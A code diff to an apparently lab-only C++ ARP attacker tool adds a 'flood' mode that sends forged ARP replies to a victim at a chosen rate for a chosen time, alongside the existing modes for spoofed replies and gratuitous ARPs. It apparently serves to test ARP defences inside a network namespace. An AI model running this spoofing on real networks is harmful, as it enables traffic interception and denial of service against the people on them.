@@ -1,6 +1,9 @@
 // The lab's attacker: forges ARP on one link of its network namespace.
 //   tw_arp_attacker <link> reply <claimed-ip> <victim-ip> <victim-mac> <count> [<claimed-mac>]
 //       forged replies "claimed-ip is at claimed-mac", sent to the victim, as fast as possible
+//   tw_arp_attacker <link> flood <claimed-ip> <victim-ip> <victim-mac> <per-second> <seconds>
+//                   [<claimed-mac>]
+//       the same replies at that rate (sent a millisecond's share at a time) for that long
 //   tw_arp_attacker <link> gratuitous <claimed-ip> <count> [<claimed-mac>]
 //       gratuitous ARPs for claimed-ip, broadcast, requests and replies alternating
 //   tw_arp_attacker <link> answer <claimed-ip> <count> [<claimed-mac>]
@@ -192,6 +195,28 @@ int main(int argc, char** argv) {
                 socket.Send(packet, index, packet.targetMac);
             }
             std::printf("sent %ld replies\n", count);
+            return 0;
+        }
+        if (mode == "flood" && (argc == 8 || argc == 9)) {
+            Packet packet;
+            packet.operation = Core_SocketARP::arp::operation_reply;
+            packet.senderIp = ParseIp(argv[3]);
+            packet.senderMac = argc == 9 ? ParseMac(argv[8]) : ownMac;
+            packet.targetIp = ParseIp(argv[4]);
+            packet.targetMac = ParseMac(argv[5]);
+            const long perSecond = ParseCount(argv[6]);
+            const long seconds = ParseCount(argv[7]);
+            PacketSocket socket(index, DropAll());
+            const auto start = std::chrono::steady_clock::now();
+            long sent = 0;
+            for (long ms = 1; ms <= seconds * 1000; ++ms) {
+                // What is due by the end of this millisecond, then a wait for its end.
+                for (const long due = perSecond * ms / 1000; sent < due; ++sent) {
+                    socket.Send(packet, index, packet.targetMac);
+                }
+                std::this_thread::sleep_until(start + std::chrono::milliseconds(ms));
+            }
+            std::printf("sent %ld replies\n", sent);
             return 0;
         }
         if (mode == "gratuitous" && (argc == 5 || argc == 6)) {
